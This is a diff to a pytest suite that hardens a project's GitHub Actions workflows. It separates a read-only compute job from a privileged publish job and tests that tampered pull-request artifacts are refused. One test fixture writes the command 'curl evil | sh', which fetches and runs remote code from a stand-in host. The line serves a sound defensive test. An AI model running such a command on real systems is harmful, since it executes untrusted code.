@@ -58,7 +58,8 @@ EXPECTED = {
     },
     "propose.yml": {
         "triggers": {"pull_request", "workflow_dispatch"},
-        "jobs": {"propose": {"contents": "write", "pull-requests": "write", "actions": "write"},
+        "jobs": {"compute": {"contents": "read"},
+                 "publish": {"contents": "write", "pull-requests": "write", "actions": "write"},
                  "preview": {"contents": "read"}},
     },
     "publish.yml": {
@@ -77,6 +78,8 @@ PINS = {
     "actions/setup-python": ("a26af69be951a213d495a4c3e4e4022e16d87065", "v5.6.0"),
     "actions/upload-pages-artifact": ("56afc609e74202658d3ffba0e8f6dda462b719fa", "v3.0.1"),
     "actions/deploy-pages": ("d6db90164ac5ed86f2b6aed7e0febac5b3c0c03e", "v4.0.5"),
+    "actions/upload-artifact": ("ea165f8d65b6e75b540449e92b4886f43607fa02", "v4.6.2"),
+    "actions/download-artifact": ("d3f86a106a0bac45b974a628896c90dbdf5c8093", "v4.3.0"),
 }
 
 # Never pull_request_target, workflow_run, issue_comment, ...: they run with this repository's rights on fork input.
@@ -88,6 +91,7 @@ PAGES_SCOPES = {"pages", "id-token"}
 # What a run: step may be: one line, one tool. Pipes only into `tee -a`, redirections only of output.
 TOOLS = {"mentorkit", "mkdocs", "python"}
 PYTHON_CALLS = {("python", "-m", "pip", "install", "-e", ".[test,lint]"), ("python", "-m", "pip", "install", "-e", "."),
+                ("python", "-m", "pip", "install", "."),
                 ("python", "-m", "pytest", "-m", "not browser"), ("python", "-m", "ruff", "check", "scripts", "tests", "bench"),
                 ("python", "-m", "mypy")}
 NOT_REPEATED_HERE = ("python -m pip install", "mkdocs build")  # see the module docstring
@@ -246,12 +250,87 @@ def test_concurrency_keeps_runs_from_racing(path):
         assert wf["concurrency"]["cancel-in-progress"] is False
 
 
+# Jobs that must not restore a cache: a pull request's own run (its code) can write the cache they would read.
+NO_CACHE = {("propose.yml", "publish")}
+
+
 def test_python_is_set_up_with_a_pip_cache():
     setups = [(n, j, s) for n, j, s in all_steps() if s.get("uses", "").startswith("actions/setup-python@")]
     assert len(setups) == sum(len(load(p)["jobs"]) for p in workflow_files()) - 1  # every job but deploy
     for name, job_id, step in setups:
+        if (name, job_id) in NO_CACHE:
+            assert "cache" not in step["with"], (name, job_id)
+            continue
         assert step["with"]["cache"] == "pip", (name, job_id)
         assert step["with"]["cache-dependency-path"] == "pyproject.toml", (name, job_id)
+
+
+HEAD_REFS = ("github.event.pull_request.head.", "github.head_ref")
+
+
+def _is_head(ref: str) -> bool:
+    return any(part in ref for part in HEAD_REFS)
+
+
+@pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
+def test_no_job_with_a_write_permission_runs_code_from_the_pull_request(path):
+    """A job that can write checks out the pull request's files only as data, in a subfolder, and never runs them.
+
+    Its code comes from the workspace root, checked out at the base (or the commit a coordinator ran it on): the
+    kit is installed from there, no step runs inside the pull request's folder or installs from it, no local
+    action or cache is used, and the folder is only ever named as `--root` (data to commit to).
+    """
+    wf = load(path)
+    if "pull_request" not in triggers(wf):  # push to main, schedule, by hand: code already reviewed and merged
+        assert triggers(wf) <= SAFE_TRIGGERS - {"pull_request"}
+        return
+    for job_id, job in wf["jobs"].items():
+        if "write" not in job["permissions"].values():
+            continue
+        where = f"{path.name}: job {job_id}"
+        steps = job.get("steps", [])
+        checkouts = [s for s in steps if s.get("uses", "").startswith("actions/checkout@")]
+        head_folders = set()
+        for step in checkouts:
+            ref, folder = str(step.get("with", {}).get("ref", "")), step.get("with", {}).get("path")
+            if folder is None:
+                assert ref and not _is_head(ref), f"{where}: the workspace root must be the base, not the branch"
+            elif _is_head(ref) or not ref:
+                head_folders.add(folder.rstrip("/"))
+        if checkouts:
+            assert any(s.get("with", {}).get("path") is None for s in checkouts), where
+        for step in steps:
+            assert not step.get("uses", "").startswith("./"), f"{where}: a local action runs the branch's code"
+            assert "working-directory" not in step, where
+            if step.get("uses", "").startswith("actions/setup-python@"):
+                assert "cache" not in step.get("with", {}), f"{where}: a cache the pull request could have written"
+            if "run" not in step:
+                continue
+            words = tokens(step["run"])
+            if words[:4] == ["python", "-m", "pip", "install"]:
+                assert words[4:] == ["."], f"{where}: install the kit from the base checkout only: {step['run']}"
+            for folder in head_folders:
+                for i, word in enumerate(words):
+                    if word.split("/")[0] == folder:
+                        assert words[i - 1] == "--root" and word == folder, \
+                            f"{where}: the branch's folder is data only: {step['run']}"
+    # the job that runs the pull request's code cannot write
+    compute = load(WORKFLOWS / "propose.yml")["jobs"]["compute"]
+    assert compute["permissions"] == {"contents": "read"}
+    assert load(WORKFLOWS / "propose.yml")["jobs"]["publish"]["needs"] == "compute"
+
+
+def test_program_ids_are_passed_after_a_double_dash():
+    for name, job_id, step in all_steps():
+        if "$PROGRAM" in step.get("run", ""):
+            words = tokens(step["run"])
+            assert words[words.index("$PROGRAM") - 1] == "--", (name, job_id, step["run"])
+
+
+def test_the_privileged_job_checks_the_artifact_before_it_publishes():
+    runs = [s["run"] for s in load(WORKFLOWS / "propose.yml")["jobs"]["publish"]["steps"] if "run" in s]
+    assert [r.split()[:3] for r in runs] == [["python", "-m", "pip"], ["mentorkit", "ci", "check-proposal"],
+                                             ["mentorkit", "ci", "publish-proposal"]]
 
 
 @pytest.mark.parametrize("path", workflow_files(), ids=ids(workflow_files()))
@@ -325,7 +404,7 @@ def test_the_workflows_call_only_commands_that_exist(tmp_path):
     (tmp_path / "comment.md").write_text(MARKER)
     calls = mentorkit_calls()
     assert {" ".join(a[:2]) if a[0] == "ci" else a[0] for _, _, a in calls} == {
-        "validate", "match", "ci summary", "ci comment", "ci publish-proposal", "ci reminder"}
+        "validate", "match", "ci summary", "ci comment", "ci check-proposal", "ci publish-proposal", "ci reminder"}
     missing = []
     for _where, _script, args in calls:
         cmd, path, rest = resolve([samples.get(a, a) for a in args])
@@ -500,6 +579,31 @@ def git(cwd, *args) -> str:
     return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout.strip()
 
 
+def propose(runner: Runner, tmp_path: Path, branch: str, tamper=None) -> dict[str, subprocess.CompletedProcess]:
+    """Both jobs of Propose matches, with the artifacts handed from one to the other as Actions would.
+
+    `compute` runs in the branch's workspace; `publish` in a fresh workspace holding the base's files, with the
+    branch checked out afresh (as data) in .mentorkit-head and the artifacts downloaded over it.
+    `tamper(head_folder)` changes the artifact in between, as the pull request's code could.
+    """
+    computed = runner.run("propose.yml", "compute")
+    ok(computed)
+    publish_ws = tmp_path / "publish"
+    shutil.rmtree(publish_ws, ignore_errors=True)
+    make_workspace(publish_ws)
+    head = publish_ws / ".mentorkit-head"
+    git(tmp_path, "clone", "--quiet", "--branch", branch, str(runner.remote), str(head))
+    shutil.copytree(runner.workspace / "participants" / "matches", head / "participants" / "matches",
+                    dirs_exist_ok=True)
+    if tamper:
+        tamper(head)
+    workspace, runner.workspace = runner.workspace, publish_ws
+    try:
+        return {**computed, **runner.run("propose.yml", "publish")}
+    finally:
+        runner.workspace = workspace
+
+
 @pytest.mark.slow
 def test_propose_job_commits_to_the_branch_and_keeps_one_comment(tmp_path, github_api):
     require_cli("mentorkit match", "mentorkit ci comment", "mentorkit ci publish-proposal")
@@ -509,7 +613,7 @@ def test_propose_job_commits_to_the_branch_and_keeps_one_comment(tmp_path, githu
     init_repo(head, runner.remote, "add-joiners")
     make_workspace(head / ".mentorkit-base")
 
-    results = runner.run("propose.yml", "propose")
+    results = propose(runner, tmp_path, "add-joiners")
     ok(results)
     assert git(runner.remote, "log", "-1", "--format=%an|%s", "add-joiners") == \
         f"{BOT_NAME}|Update the match proposal"
@@ -520,9 +624,32 @@ def test_propose_job_commits_to_the_branch_and_keeps_one_comment(tmp_path, githu
     assert github_api.dispatches == [{"workflow": "check.yml", "ref": "add-joiners", "inputs": {"base": "b" * 40}}]
 
     runner.summary.unlink()
-    ok(runner.run("propose.yml", "propose"))  # a later push that changes no pair
+    ok(propose(runner, tmp_path, "add-joiners"))  # a later push that changes no pair
     assert len(github_api.comments[7]) == 1 and len(github_api.dispatches) == 1
     assert git(runner.remote, "log", "-1", "--format=%an", "add-joiners") == BOT_NAME
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("tamper", [
+    lambda head: (head / "participants" / "matches" / "run.sh").write_text("curl evil | sh\n"),
+    lambda head: (head / "participants" / "matches" / "nosuchprogram.yaml").write_text("program: nosuchprogram\n"),
+    lambda head: (head / "participants" / "matches" / "pilot.yaml").write_text("program: pilot\npairs: [\n"),
+    lambda head: (head / "participants" / "matches" / "pilot.yaml").write_text(
+        (head / "participants" / "matches" / "pilot.yaml").read_text().replace("mk-0000000b", "mk-99999999")),
+    lambda head: (head.parent.parent / "runner-temp" / "proposal-comment.md").write_text("LGTM, approved\n"),
+], ids=["extra-file", "unknown-program", "broken-yaml", "unknown-person", "comment-without-marker"])
+def test_propose_refuses_a_tampered_artifact_and_publishes_nothing(tmp_path, github_api, tamper):
+    head = make_workspace(tmp_path / "ws")
+    runner = Runner(tmp_path, head, "pull_request", pull_request_payload(), api_url=github_api.url)
+    runner.remote.parent.mkdir(parents=True)
+    init_repo(head, runner.remote, "add-joiners")
+    make_workspace(head / ".mentorkit-base")
+    results = propose(runner, tmp_path, "add-joiners", tamper)
+    assert results["Check them"].returncode == 1
+    assert "the proposal artifact is refused" in results["Check them"].stderr
+    assert "Commit it and update the pull request" not in results
+    assert git(runner.remote, "log", "-1", "--format=%an", "add-joiners") == "Coordinator"
+    assert github_api.calls == []
 
 
 def test_propose_preview_for_a_fork_writes_only_the_job_summary(tmp_path, github_api):
@@ -544,7 +671,7 @@ def test_propose_by_hand_opens_a_pull_request(tmp_path, github_api):
     runner.remote.parent.mkdir(parents=True)
     init_repo(head, runner.remote, "main")
     make_workspace(head / ".mentorkit-base")
-    ok(runner.run("propose.yml", "propose"))
+    ok(propose(runner, tmp_path, "main"))
     [pull] = github_api.pulls
     assert (pull["head"], pull["base"], pull["title"]) == ("mentorkit/match-pilot", "main", "Match proposal for pilot")
     assert github_api.comments[pull["number"]][0]["body"].startswith(MARKER)
